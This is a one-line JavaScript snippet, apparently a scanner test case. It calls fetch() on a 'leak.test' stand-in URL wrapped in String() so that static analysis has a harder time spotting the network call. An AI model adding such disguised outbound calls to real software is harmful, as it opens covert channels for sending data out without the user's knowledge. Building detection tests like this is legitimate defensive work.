fetch(String("https://js-fold-string-constructor.leak.test/"))
